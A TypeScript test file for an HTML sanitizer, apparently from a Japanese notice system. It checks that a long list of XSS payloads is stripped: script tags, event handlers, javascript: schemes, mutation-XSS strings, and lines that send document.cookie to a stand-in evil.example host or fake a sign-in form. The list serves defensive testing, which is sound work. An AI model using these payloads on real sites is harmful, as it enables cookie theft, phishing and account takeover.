import { ALLOWED_TAGS, LINK_REL } from '@pc/domain/text/html-allow-list.ts'
import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, defaultTreeAdapter, parse, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { plainText, safeHtml } from './safe-html.ts'

type Node = DefaultTreeAdapterTypes.Node

/** Everything in a piece of HTML that is not on the allow-list, as a browser would see it; empty: nothing. */
function forbiddenIn(html: string): string[] {
  const found: string[] = []
  const walk = (node: Node) => {
    if (defaultTreeAdapter.isCommentNode(node)) found.push('comment')
    if (defaultTreeAdapter.isElementNode(node)) {
      const { tagName, attrs, namespaceURI } = node
      if (!(ALLOWED_TAGS as readonly string[]).includes(tagName)) found.push(`<${tagName}>`)
      if (namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(namespaceURI)
      for (const { name, value } of attrs) {
        const isLink = tagName === 'a' && name === 'href' && /^(https?:\/\/|mailto:)/.test(value)
        const isFixed =
          tagName === 'a' && ((name === 'rel' && value === LINK_REL) || (name === 'target' && value === '_blank'))
        if (!isLink && !isFixed) found.push(`${tagName} ${name}=${value}`)
      }
      if ('content' in node) found.push('template')
    }
    for (const child of 'childNodes' in node ? node.childNodes : []) walk(child)
  }
  for (const node of parseFragment(html).childNodes) walk(node)
  // The same inside of a page, and inside of what a screen may wrap it in.
  for (const page of [
    `<!doctype html><body><div>${html}</div>`,
    `<!doctype html><body><table><tr><td>${html}</td></tr></table>`,
  ]) {
    const text = JSON.stringify(parse(page), (key, value) => (key === 'parentNode' ? undefined : value))
    if (
      /"tagName":"(script|style|iframe|svg|math|img|form|input|link|meta|base|object|embed|video|audio|template)"/.test(
        text,
      )
    )
      found.push('in a page')
  }
  return found
}

const CODE = ['alert(1)', 'fetch(`//evil.example/${document.cookie}`)', "location='//evil.example'"]
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerrawupdate',
  'onbeforetoggle',
  'onscrollend',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  'file:///',
  'view-source:',
  'livescript:',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil@',
  'http://user:pw@evil.example/',
  'ws://evil.example/',
  'intent://',
  'x:',
]

/** Own payloads: every element, handler and scheme that can run, load, style, overlay or ask for something. */
const PAYLOADS: readonly string[] = [
  ...CODE.flatMap(code => [
    `<script>${code}</script>`,
    `<SCRIPT SRC=//evil.example>${code}</SCRIPT>`,
    `<script\x0c>${code}</script>`,
    `<svg><script>${code}</script></svg>`,
    `<math><script>${code}</script></math>`,
    `<script>/*</script><b>*/${code}</b></script>`,
  ]),
  ...HANDLERS.flatMap(handler => [
    `<img src=x ${handler}=alert(1)>`,
    `<b ${handler}="alert(1)">x</b>`,
    `<p/${handler}=alert(1)>x`,
    `<svg ${handler}=alert(1)>`,
    `<a href=https://ok.example ${handler}=alert(1)>x</a>`,
    `<details open ${handler}=alert(1)>x</details>`,
  ]),
  ...SCHEMES.flatMap(scheme => [
    `<a href="${scheme}alert(1)">x</a>`,
    `<a href='${scheme}alert(1)'>x</a>`,
    `<form action="${scheme}alert(1)"><button>x</button></form>`,
    `<iframe src="${scheme}alert(1)"></iframe>`,
  ]),
  // Things that look like a sign-in form, or lie over the page.
  '<form action=https://evil.example><input type=password name=p><button>サインイン</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<select><option>x</select>',
  '<textarea>x</textarea>',
  '<label for=x>x</label>',
  '<dialog open>x</dialog>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
  '<p style=color:red class=modal id=root>x</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<font color=red>x</font>',
  '<center>x</center>',
  '<marquee>x</marquee>',
  '<b title="x" data-x=1 aria-label=x role=button tabindex=0 contenteditable draggable=true is=x-y slot=a part=b nonce=c>x</b>',
  '<a href=https://ok.example target=_self rel=opener download ping=//evil.example>x</a>',
  '<a name=x id=document>x</a>',
  // Things that load.
  '<img src=https://evil.example/pixel.png>',
  '<img srcset=//evil.example/1>',
  '<picture><source srcset=//evil.example></picture>',
  '<video src=//evil.example poster=//evil.example autoplay></video>',
  '<audio src=//evil.example autoplay></audio>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<applet code=x></applet>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=//evil.example></frameset>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<track src=//evil.example>',
  '<portal src=//evil.example></portal>',
  '<bgsound src=//evil.example>',
  '<body background=//evil.example onload=alert(1)>',
  '<table background=//evil.example><tr><td background=//evil.example>x</table>',
  '<isindex action=javascript:alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<menuitem onclick=alert(1)>',
  // Things that mutate: what a parser makes of them is not what was written.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><p><script>alert(1)</script></p></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><set attributeName=onload to=alert(1)>',
  '<table><style><img src=x onerror=alert(1)></table>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<select><style><img src=x onerror=alert(1)></style></select>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<a><table><a href=javascript:alert(1)>x</a></table></a>',
  '<p><svg><p><style><!--</style>--><img src=x onerror=alert(1)>',
  '<b><p></b><script>alert(1)</script></p>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href="https://ok.example/\'onclick=alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  // Broken on purpose.
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!doctype html><script>alert(1)</script>',
  '<html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>',
  '</p></div></body></html><script>alert(1)</script>',
  '<a/href="javascript:alert(1)">x',
  '<a\u0000href=javascript:alert(1)>x',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  '<ｓcript>alert(1)</ｓcript>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onconnect=alert(1)>x</custom-element>',
  '<slot onslotchange=alert(1)></slot>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<p>\u202eevil\u2066</p>',
  '\ud800<script>alert(1)</script>',
  `${'<div>'.repeat(600)}<script>alert(1)</script>`,
  `${'<b>'.repeat(300)}<img src=x onerror=alert(1)>`,
]

describe('nothing but the allow-list is left', () => {
  test(`${PAYLOADS.length} payloads`, () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(200)
    for (const payload of PAYLOADS) {
      for (const around of [
        payload,
        `<p>前${payload}後</p>`,
        `<ul><li>${payload}</ul>`,
        `<table><tr><td>${payload}`,
        `<a href="https://ok.example/">${payload}</a>`,
      ]) {
        const clean = safeHtml(around)
        expect(forbiddenIn(clean), around).toEqual([])
        expect(safeHtml(clean), around).toBe(clean)
      }
    }
  })

  test('pairs of payloads, and payloads cut anywhere', () => {
    const payload = fc.constantFrom(...PAYLOADS)
    const cut = fc.tuple(payload, fc.nat(200)).map(([text, at]) => text.slice(0, at))
    const piece = fc.oneof(
      payload,
      cut,
      fc.constantFrom(
        '<table>',
        '<p>',
        '<a href=https://ok.example>',
        '<li>',
        '</p>',
        '<tr>',
        '<td>',
        '<blockquote>',
        '<pre>\n',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 5 }), pieces => {
        const clean = safeHtml(pieces.join(''))
        expect(forbiddenIn(clean)).toEqual([])
        expect(safeHtml(clean)).toBe(clean)
      }),
      { numRuns: 1_000 },
    )
  })

  test('soup of markup characters', () => {
    const soup = fc.array(
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '!',
        '-',
        '&',
        ';',
        '#',
        ' ',
        '\n',
        'a',
        'p',
        'b',
        'script',
        'href',
        'table',
        'svg',
        'javascript:',
        'あ',
      ),
      { maxLength: 60 },
    )
    fc.assert(
      fc.property(soup, parts => {
        expect(forbiddenIn(safeHtml(parts.join('')))).toEqual([])
      }),
      { numRuns: 1_000 },
    )
  })
})

describe('what people write stays', () => {
  test.each([
    '<p>本日<strong>メンテナンス</strong>を行います。<br>ご了承ください。</p>',
    '<h2>予定</h2><ul><li>一</li><li>二<ol><li>三</li></ol></li></ul><hr>',
    '<table><thead><tr><th>月</th></tr></thead><tbody><tr><td>10月</td></tr></tbody></table>',
    '<blockquote><pre><code>a &lt; b &amp;&amp; c</code></pre></blockquote>',
    'ただの文章 &amp; 記号',
  ])('%s', html => {
    expect(safeHtml(html)).toBe(html)
  })
  test('links open elsewhere and give nothing away', () => {
    expect(safeHtml('<a href="https://help.example/?a=1&amp;b=2">ヘルプ</a>')).toBe(
      `<a href="https://help.example/?a=1&amp;b=2" rel="${LINK_REL}" target="_blank">ヘルプ</a>`,
    )
    expect(safeHtml('<a href="mailto:desk@example.jp">連絡</a>')).toContain('href="mailto:desk@example.jp"')
    expect(safeHtml('<a href="/relative">x</a>')).toBe('x')
  })
  test('unknown tags lose their tag and keep their text', () => {
    expect(safeHtml('<div>一</div><section>二</section><span>三</span>')).toBe('<p>一</p><p>二</p>三')
  })
  test('hostile sizes end in time', () => {
    const hostile = [
      '<b>'.repeat(20_000),
      '<p>'.repeat(20_000),
      '<a href=https://x.example>'.repeat(2_000),
      `${Array.from({ length: 900 }, (_, i) => `<b id=${i}>`).join('')}${'<p>x'.repeat(8_000)}`,
      '<table>'.repeat(8_000),
      '&amp'.repeat(14_000),
      '<'.repeat(60_000),
    ]
    for (const text of hostile) {
      const started = process.cpuUsage()
      safeHtml(text.slice(0, 60_000))
      expect(cpuMs(started), text.slice(0, 12)).toBeLessThan(4_000)
    }
  })
})

test('plain text is text: no tag, no control, no turned direction, one line', () => {
  expect(plainText('<b>太字</b> &amp; <script>x</script>記号\n\t続き')).toBe('太字 & 記号 続き')
  expect(plainText('新聞\u202egnp.exe\u200b')).toBe('新聞gnp.exe')
  expect(plainText('a < b かつ 1 & 2')).toBe('a < b かつ 1 & 2')
  expect([...plainText('あ'.repeat(600))]).toHaveLength(500)
  for (const payload of PAYLOADS) expect(plainText(`<p>${payload}</p>`)).not.toMatch(/[\p{Cc}]/u)
})

/** Time of the processor: a busy machine does not make it longer. */
function cpuMs(since: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(since)
  return (user + system) / 1000
}
